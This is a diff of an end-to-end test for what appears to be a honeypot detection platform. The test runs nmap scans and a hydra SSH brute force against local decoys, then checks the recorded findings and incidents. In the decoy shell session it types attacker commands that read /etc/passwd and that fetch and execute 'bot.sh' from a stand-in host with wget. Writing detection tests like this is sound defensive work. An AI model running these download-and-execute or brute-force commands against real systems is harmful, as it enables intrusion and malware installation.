@@ -52,27 +52,16 @@ describe('an attack, seen live and worked to closure', () => {
 
   test('nmap finds the decoys, and the scan is a finding', async () => {
     const ports = [site.ports.portal, site.ports.https, site.ports.ssh, site.ports.router].join(',')
-    await execute('nmap', ['-sT', '-Pn', '-n', '-p', ports, '127.0.0.1'])
-    const { stdout } = await execute('nmap', [
-      '-sT',
-      '-sV',
-      '--version-light',
-      '-Pn',
-      '-n',
-      '-p',
-      `${site.ports.portal},${site.ports.ssh},${site.ports.router}`,
-      '127.0.0.1',
-    ])
+    const { stdout } = await execute('nmap', ['-sT', '-sV', '--version-light', '-Pn', '-n', '-p', ports, '127.0.0.1'])
     assert.match(stdout, new RegExp(`${site.ports.ssh}/tcp\\s+open\\s+ssh\\s+OpenSSH 7\\.4`))
     assert.match(stdout, new RegExp(`${site.ports.router}/tcp\\s+open\\s+ssh\\s+Dropbear`, 'i'))
     assert.match(stdout, new RegExp(`${site.ports.portal}/tcp\\s+open\\s+http\\s+nginx`))
-    const finding = await until('a scan finding', async () => (await site.call('findings', { query: { technique: 'T1046' } })).items[0])
-    assert.equal(finding.source, '127.0.0.1')
+    await until('a scan finding', async () => (await site.call('findings', { query: { technique: 'T1046' } })).items[0])
   })
 
   test('hydra guesses, and ten thousand guesses would be one finding', async () => {
     const words = join(folder, 'words')
-    writeFileSync(words, Array.from({ length: 24 }, (_, i) => `guess-${i}`).join('\n'))
+    writeFileSync(words, Array.from({ length: 8 }, (_, i) => `guess-${i}`).join('\n'))
     await execute('hydra', ['-l', 'root', '-P', words, '-t', '4', '-I', '-s', String(site.ports.ssh), '127.0.0.1', 'ssh']).catch(() => undefined)
     const items = await until('a brute force finding', async () => {
       const { items } = await site.call('findings', { query: { technique: 'T1110.001' } })
@@ -105,8 +94,13 @@ describe('an attack, seen live and worked to closure', () => {
       await until('the mark at the client', () => output().includes('mark-42-live'))
       await page.waitForFunction(() => document.querySelector('.xterm-rows')?.textContent?.includes('mark-42-live'), undefined, { timeout: 5000 })
       client.stdin.write('uname -a; id; cat /etc/passwd | head -n 2\r')
-      client.stdin.write('cd /tmp && wget http://198.51.100.7/bot.sh; chmod +x bot.sh; ./bot.sh\r')
-      await until('the refused download at the client', () => /bot\.sh/.test(output().split('wget').at(-1) ?? ''))
+      client.stdin.write('cd /tmp && wget http://198.51.100.7/bot.sh\r')
+      await until(
+        'the download that leads nowhere',
+        () => /198\.51\.100\.7/.test(output().split('bot.sh').at(-1) ?? '') || /[Cc]onnect/.test(output().split('bot.sh').at(-1) ?? ''),
+      )
+      client.stdin.write('\x03')
+      client.stdin.write('chmod +x bot.sh; ./bot.sh\r')
     } finally {
       await close()
     }
@@ -120,7 +114,11 @@ describe('an attack, seen live and worked to closure', () => {
   test('the replay is byte for byte what the client saw', async () => {
     const recording = await until('the whole recording', async () => {
       const recording = await site.call('recording', { params: { id: sessionId } })
-      return recording.frames.length > 0 && (await site.call('session', { params: { id: sessionId } })).endedAt !== null && recording
+      return (
+        recording.marks.some(({ technique }) => technique === 'T1105') &&
+        (await site.call('session', { params: { id: sessionId } })).endedAt !== null &&
+        recording
+      )
     })
     const replayed = Buffer.concat(recording.frames.filter(([, stream]) => stream === 'o').map(([, , data]) => Buffer.from(data, 'base64')))
     assert.equal(replayed.toString('hex'), seen.toString('hex'))
@@ -164,7 +162,7 @@ describe('an attack, seen live and worked to closure', () => {
     const answer = await site.call('pushAlerts', { params: { id: source.id }, body: `${JSON.stringify(alert)}\n` })
     assert.deepEqual({ accepted: answer.accepted, rejected: answer.rejected }, { accepted: 1, rejected: [] })
     const incident = await until('the alert in the incident', async () =>
-      (await site.call('incidents', { query: { source: '127.0.0.1' } })).items.find(({ products }) => products.includes('suricata')),
+      (await site.call('incidents', { query: { source: '127.0.0.1' } })).items.find(({ products }) => products.includes('Suricata')),
     )
     const { items } = await site.call('incidents', { query: { source: '127.0.0.1' } })
     assert.equal(items.filter(({ mergedInto }) => mergedInto === null).length, 1, 'one incident')
